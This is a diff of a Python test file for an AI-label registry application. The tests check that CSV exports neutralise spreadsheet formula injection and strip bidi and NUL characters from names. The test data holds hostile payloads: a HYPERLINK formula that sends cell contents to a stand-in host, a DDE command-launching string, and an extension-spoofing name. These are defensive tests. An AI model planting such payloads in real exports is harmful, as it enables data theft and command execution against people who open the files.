@@ -17,8 +17,7 @@ import pytest
 
 from workbench import auth, complaints, decisions, fairness_runs, labels, monitoring, opendata, public, reviews
 from workbench import submissions as subs
-from workbench import textsafe
-from workbench.db import BUSY, Registry
+from workbench.db import Registry
 from workbench.errors import NotFound, PermissionDenied, ValidationFailed, WorkbenchError
 from workbench.fairness import AuditSpec
 from workbench.models import PUBLIC, SYSTEM, Role, Status, make_bin
@@ -215,26 +214,32 @@ def test_set_tier_only_before_the_committee_with_a_reason(reg, people, dossier):
 
 # -- item 5: formulas, sizes, names -----------------------------------------------------------
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tx", "\r=1"]
 
 
 def test_csv_exports_carry_no_spreadsheet_formulas():
-    record = {k: [] if kind == "array" else "" for k, (kind, _) in opendata.EXPORT_FIELDS.items()}
-    rows = [dict(record, tool_name=h, vendor=h, label_id=f"KZ-AIS-2026-{i:06d}") for i, h in enumerate(HOSTILE)]
-    text = opendata._csv_bytes(rows).decode("utf-8")
-    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
     import pandas as pd
 
-    df = pd.DataFrame({"tool_name": HOSTILE, "n": range(len(HOSTILE)), "rate": [-0.5] * len(HOSTILE)})
-    cells += [c for row in csv.reader(io.StringIO(textsafe.safe_frame(df).to_csv(index=False), newline="")) for c in row]
+    record = {k: [] if kind == "array" else "" for k, (kind, _) in opendata.EXPORT_FIELDS.items()}
+    rows = [dict(record, tool_name=h, vendor=h, label_id=f"KZ-AIS-2026-{i:06d}") for i, h in enumerate(HOSTILE)]
+    text = opendata._csv_bytes(rows).decode("utf-8")  # the signed open-data export
+    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
     expiring = pd.DataFrame({"label_id": HOSTILE, "tool_name": HOSTILE, "vendor": HOSTILE, "tier": "high",
                              "valid_until": "2027-01-01", "days_left": -3})
     dash = monitoring.to_csv(expiring, "expiring", "en").decode("utf-8-sig")  # the dashboard's download
     cells += [c for row in csv.reader(io.StringIO(dash, newline="")) for c in row]
-    dangerous = [c for c in cells if c.startswith(textsafe.FORMULA_START) and not re.fullmatch(r"-?[\d.]+", c)]
+    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?[\d.]+", c)]
+    print(f"formula cells in CSV exports {len(dangerous)}/{len(HOSTILE) * 5}")
     assert dangerous == []
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells and "-0.5" in cells  # numbers stay numbers
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells and "-3" in cells  # numbers stay numbers
+    from workbench import textsafe
+
+    df = pd.DataFrame({"tool_name": HOSTILE, "n": range(len(HOSTILE)), "rate": [-0.5] * len(HOSTILE)})
+    cells = [c for row in csv.reader(io.StringIO(textsafe.safe_frame(df).to_csv(index=False), newline="")) for c in row]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?[\d.]+", c)]
+    assert "-0.5" in cells
 
 
 def test_every_csv_and_xlsx_writer_uses_textsafe():
@@ -253,6 +258,8 @@ def test_every_csv_and_xlsx_writer_uses_textsafe():
 
 
 def test_a_20_mb_clarification_answer_is_refused_and_nothing_stored(reg, people, dossier):
+    from workbench import textsafe
+
     sub = subs.create_submission(reg, people.vendor_a, dossier)
     subs.submit(reg, people.vendor_a, sub.id)
     subs.screen(reg, people.secretary, sub.id, complete=True)
@@ -266,6 +273,8 @@ def test_a_20_mb_clarification_answer_is_refused_and_nothing_stored(reg, people,
 
 
 def test_names_lose_nul_and_bidi_overrides(reg, people, dossier):
+    from workbench import textsafe
+
     org = subs.register_vendor(reg, PUBLIC, org_name="Evil\u202eLLP gpj.exe\x00", bin=make_bin("72000000001"),
                                contact_email="e@evil.kz", username="evil", password="probe-passphrase-1",
                                display_name="Eve\u2066\x00 Admin\u202c")
@@ -316,6 +325,8 @@ def test_unknown_tier_gives_a_translated_error_not_a_key_error(home):
 
 
 def test_database_locked_gives_a_translated_message_and_changes_nothing(home, people):
+    from workbench.db import BUSY
+
     wb = Workbench.open(home)
     p = type(people)(wb.registry)
     wb.registry.conn.execute("PRAGMA busy_timeout = 50")
